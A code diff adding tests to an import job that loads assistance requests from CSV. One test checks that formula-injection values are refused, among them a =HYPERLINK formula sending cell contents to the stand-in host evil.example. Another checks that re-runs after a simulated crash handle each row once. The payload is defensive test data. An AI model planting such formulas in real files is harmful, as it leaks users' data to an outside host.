@@ -1,4 +1,6 @@
 import { bootApp, type TestApp } from '../../../../../test/support/app.js';
+import { ImportsRepository } from './imports.repository.js';
+import { ImportRequestsJob } from './jobs/import-requests.job.js';
 
 const START = `mutation($f: String!, $c: String!) { importAssistanceRequests(fileName: $f, csv: $c) { id status } }`;
 const STATUS = `query($id: ID!) { requestImport(id: $id) { status progress totalRows importedRows failure errors { line field message } } }`;
@@ -76,5 +78,80 @@ describe('importing requests from a spreadsheet (a background job)', () => {
     expect(imp.failure).toMatch(/missing: topics, priority_area, received_on, channel, description/);
     const xlsx = await t.gql(START, { f: 'requests.xlsx', c: 'PK...' });
     expect(xlsx.errors![0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'fileName' });
+  });
+
+  it('refuses a row whose text a spreadsheet would run as a formula, with its line, column and reason', async () => {
+    const csv = [
+      'state,kind,topics,priority_area,received_on,channel,description',
+      'Kenya,training,cybercrime,B,2009-02-01,letter,Plain text is fine',
+      'Kenya,training,cybercrime,B,2009-02-01,letter,"=HYPERLINK(""http://evil.example/?""&A1,""click"")"',
+      'Kenya,training,cybercrime,B,2009-02-01,letter,@SUM(1+1)',
+    ].join('\n');
+    const imp = await run('secretariat', csv);
+    expect(imp).toMatchObject({ status: 'DONE', totalRows: 3, importedRows: 1 });
+    expect(imp.errors).toEqual([
+      { line: 3, field: 'description', message: expect.stringMatching(/begins with "=".*formula/) },
+      { line: 4, field: 'description', message: expect.stringMatching(/begins with "@".*formula/) },
+    ]);
+  });
+
+  it('handles every row exactly once when the job crashes and is run again, with true counters', async () => {
+    const marker = `crash-${Date.now()}`;
+    const lines = Array.from({ length: 25 }, (_, i) =>
+      i % 6 === 5
+        ? `Atlantis,training,cybercrime,B,2009-02-01,letter,${marker} row ${i + 2}`
+        : `Kenya,training,cybercrime,B,2009-02-01,letter,${marker} row ${i + 2}`,
+    );
+    const csv = ['state,kind,topics,priority_area,received_on,channel,description', ...lines].join('\n');
+    const [secretariat]: Array<{ id: string }> = await t.dataSource.query(
+      `SELECT id FROM app_user WHERE email = 'secretariat@demo.local'`,
+    );
+    // Inserted without queueing it: this test runs the job itself, as the worker would.
+    const id = await t.app.get(ImportsRepository).insert('crash.csv', csv, secretariat.id);
+    const job = t.app.get(ImportRequestsJob);
+    const logged = async () =>
+      (
+        await t.dataSource.query(`SELECT count(*)::int AS n FROM assistance_request WHERE description LIKE $1`, [
+          `${marker} %`,
+        ])
+      )[0].n as number;
+    const state = async () =>
+      (
+        await t.dataSource.query(
+          `SELECT i.status, i.imported_rows,
+                  (SELECT count(*)::int FROM request_import_row r WHERE r.import_id = i.id AND r.request_id IS NULL) AS errors,
+                  (SELECT count(*)::int FROM request_import_row r WHERE r.import_id = i.id) AS lines
+             FROM request_import i WHERE i.id = $1`,
+          [id],
+        )
+      )[0];
+
+    // The process "dies" on line 14, after its request was written and before the line committed.
+    job.beforeLineCommits = (line) => {
+      if (line === 14) throw new Error('kill -9');
+    };
+    try {
+      await expect(job.runNow(id)).rejects.toThrow('kill -9');
+    } finally {
+      job.beforeLineCommits = undefined;
+    }
+    // Lines 2 to 13 committed whole (10 requests, 2 refusals); nothing of line 14.
+    expect(await logged()).toBe(10);
+    expect(await state()).toMatchObject({ status: 'FAILED', imported_rows: 10, errors: 2, lines: 12 });
+
+    await job.runNow(id);
+    // Every row once: 25 rows, of which lines 7, 13, 19 and 25 name no State.
+    expect(await logged()).toBe(21);
+    expect(await state()).toMatchObject({ status: 'DONE', imported_rows: 21, errors: 4, lines: 25 });
+    const descriptions: Array<{ description: string }> = await t.dataSource.query(
+      `SELECT description FROM assistance_request WHERE description LIKE $1`,
+      [`${marker} %`],
+    );
+    expect(new Set(descriptions.map((d) => d.description)).size).toBe(21);
+
+    // A third run (a retried, already finished job) changes nothing.
+    await job.runNow(id);
+    expect(await logged()).toBe(21);
+    expect(await state()).toMatchObject({ imported_rows: 21, errors: 4, lines: 25 });
   });
 });
